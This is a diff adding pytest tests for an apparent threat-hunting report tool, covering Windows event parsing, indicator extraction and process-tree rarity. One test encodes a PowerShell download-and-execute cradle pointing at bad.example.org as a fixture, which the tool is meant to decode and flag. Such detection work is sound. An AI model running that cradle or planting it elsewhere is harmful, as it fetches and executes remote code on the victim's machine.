@@ -1,0 +1,179 @@
+"""The sides of the report, one by one."""
+
+import base64
+from collections.abc import Callable
+from datetime import UTC, datetime, timedelta
+from typing import Any
+
+import polars as pl
+
+from huntkit.report import encoded, indicators, notable, overview, processes
+from huntkit.report.layouts import layouts
+
+WHEN = datetime(2026, 3, 3, 9, 12, 31, tzinfo=UTC)
+Make = Callable[..., Any]
+
+
+def windows_rows(*rows: dict[str, Any]) -> pl.DataFrame:
+    base = {
+        "TimeGenerated": WHEN,
+        "Provider": "Microsoft-Windows-Security-Auditing",
+        "Channel": "Security",
+        "Computer": "dc01.example",
+        "EventID": 4720,
+        "EventData": '{"TargetUserName":"eve","SubjectUserName":"nils"}',
+        "_file": "a.evtx",
+        "_record": 1,
+    }
+    return pl.DataFrame([{**base, **row} for row in rows]).with_columns(
+        pl.col("TimeGenerated").dt.cast_time_unit("us")
+    )
+
+
+def test_notable_events_come_from_windows_events_with_who_and_what(evidence: Make) -> None:
+    given = evidence({"WindowsEvent": windows_rows({}, {"EventID": 4624, "_record": 2})})
+    found = notable.notable(given, layouts(given))
+    assert found.select("Kind", "Host", "Account", "Detail").rows() == [
+        ("User created", "dc01.example", "nils", "TargetUserName: eve")
+    ]
+
+
+def test_broken_event_data_is_no_obstacle(evidence: Make) -> None:
+    rows = windows_rows({"EventData": ""}, {"EventData": "{oops", "_record": 2})
+    given = evidence({"WindowsEvent": rows})
+    assert notable.notable(given, layouts(given))["Detail"].to_list() == ["", ""]
+
+
+def test_the_same_event_id_of_another_provider_is_not_notable(evidence: Make) -> None:
+    given = evidence({"WindowsEvent": windows_rows({"Provider": "Somebody else"})})
+    assert notable.notable(given, layouts(given)).height == 0
+
+
+def test_a_record_in_two_tables_is_notable_once(evidence: Make, process_rows: Make) -> None:
+    device = process_rows({"ActionType": "UserAccountCreated", "_file": "a.evtx"}).with_columns(
+        AdditionalFields=pl.lit("{}")
+    )
+    device = device.with_columns(InitiatingProcessAccountName=pl.lit(""))
+    given = evidence({"DeviceEvents": device, "WindowsEvent": windows_rows({})})
+    assert notable.notable(given, layouts(given))["Table"].to_list() == ["WindowsEvent"]
+
+
+def test_hosts_that_differ_in_case_are_one(evidence: Make, process_rows: Make) -> None:
+    rows = process_rows({"DeviceName": "WS01"}, {"DeviceName": "ws01"}, {"DeviceName": ""})
+    given = evidence({"DeviceProcessEvents": rows})
+    assert overview.hosts(given, layouts(given))["Rows"].to_list() == [2]
+
+
+def test_activity_counts_every_row_with_a_time(evidence: Make, process_rows: Make) -> None:
+    rows = process_rows(*({"TimeGenerated": WHEN + timedelta(hours=n)} for n in range(50)))
+    given = evidence({"DeviceProcessEvents": rows})
+    found = overview.activity(given, layouts(given))
+    assert found is not None
+    [(name, total, bins)] = found.tables
+    assert (name, total, sum(bins)) == ("DeviceProcessEvents", 50, 50)
+    assert bins[0] == bins[-1] == 1
+
+
+def test_an_encoded_command_is_decoded_and_its_indicators_are_found(
+    evidence: Make, process_rows: Make
+) -> None:
+    script = "IEX (New-Object Net.WebClient).DownloadString('http://bad.example.org/x')"
+    code = base64.b64encode(script.encode("utf-16-le")).decode()
+    command = f"powershell -enc {code}"
+    rows = process_rows(
+        {"ProcessCommandLine": command}, {"ProcessCommandLine": command, "_record": 2}
+    )
+    given = evidence({"DeviceProcessEvents": rows})
+    problems: list[str] = []
+    found = encoded.encoded(given, layouts(given), problems)
+    assert found["Layers"].to_list()[0][0]["Decoded"] == script
+    assert found["Mentions"].to_list() == [2]
+    iocs = indicators.indicators(given, layouts(given), problems, decoded=found)
+    urls = iocs.filter(pl.col("IoCType") == "url")
+    assert urls.select("Observable", "Defanged", "_record").rows() == [
+        ("http://bad.example.org/x", "hxxp://bad[.]example[.]org/x", 1)
+    ]
+    assert "(decoded)" in urls["Where"][0]
+    assert problems == []
+
+
+def test_indicators_say_where_and_how_often(evidence: Make, process_rows: Make) -> None:
+    rows = process_rows(
+        {"ProcessCommandLine": "ping 203.0.113.4", "_record": 7},
+        {"ProcessCommandLine": "ping 203.0.113.4", "_record": 3},
+        {"ProcessCommandLine": "ping 203.0.113.4 -t", "_record": 9},
+    )
+    given = evidence({"DeviceProcessEvents": rows})
+    [row] = indicators.indicators(given, layouts(given), []).to_dicts()
+    assert row["Mentions"] == 3
+    assert row["Where"] == "DeviceProcessEvents.ProcessCommandLine 3"
+    assert (row["_file"], row["_record"]) == ("a.json", 3)
+
+
+def test_raw_rows_that_other_tables_hold_are_not_counted_again(
+    evidence: Make, process_rows: Make
+) -> None:
+    given = evidence(
+        {
+            "DeviceProcessEvents": process_rows({"ProcessCommandLine": "ping 203.0.113.4"}),
+            "WindowsEvent": windows_rows(
+                {"EventData": '{"x":"203.0.113.4"}', "_file": "a.json", "_record": 1},
+                {"EventData": '{"x":"203.0.113.5"}', "_file": "a.json", "_record": 2},
+            ),
+        }
+    )
+    found = indicators.indicators(given, layouts(given), [])
+    assert dict(found.select("Observable", "Table").rows()) == {
+        "203.0.113.4": "DeviceProcessEvents",
+        "203.0.113.5": "WindowsEvent",
+    }
+
+
+def tree_rows(process_rows: Make) -> pl.DataFrame:
+    common = [
+        {
+            "ProcessId": 100 + n,
+            "ProcessUniqueId": f"s{n}",
+            "FolderPath": r"C:\Windows\svchost.exe",
+            "FileName": "svchost.exe",
+            "InitiatingProcessId": 4,
+            "InitiatingProcessUniqueId": "services",
+            "InitiatingProcessFolderPath": r"C:\Windows\services.exe",
+            "InitiatingProcessFileName": "services.exe",
+            "TimeGenerated": WHEN + timedelta(seconds=n),
+            "_record": n,
+        }
+        for n in range(60)
+    ]
+    rare = {
+        **common[0],
+        "ProcessId": 999,
+        "ProcessUniqueId": "evil",
+        "FolderPath": r"C:\Temp\evil.exe",
+        "FileName": "evil.exe",
+        "ProcessCommandLine": "evil.exe " + "x" * 900,
+        "_record": 999,
+    }
+    return process_rows(*common, rare)
+
+
+def test_the_rarest_branch_comes_first_and_busy_parents_are_only_its_soil(
+    evidence: Make, process_rows: Make
+) -> None:
+    given = evidence({"DeviceProcessEvents": tree_rows(process_rows)})
+    tree = processes.processes(given, layouts(given), [])
+    first, *rest = processes.branches(tree)
+    assert first.title == "services.exe → evil.exe"
+    [node] = first.nodes
+    assert node.rare
+    assert node.more == "509 more characters"
+    assert all("evil" not in branch.title for branch in rest)
+
+
+def test_processes_can_be_narrowed_by_host_and_time(evidence: Make, process_rows: Make) -> None:
+    given = evidence({"DeviceProcessEvents": tree_rows(process_rows)})
+    known = layouts(given)
+    assert processes.processes(given, known, [], host="nobody's").height == 0
+    end = WHEN + timedelta(seconds=10)
+    few = processes.processes(given, known, [], host="WS01.example", start=WHEN, end=end)
+    assert few.filter(~pl.col("Inferred")).height == 11
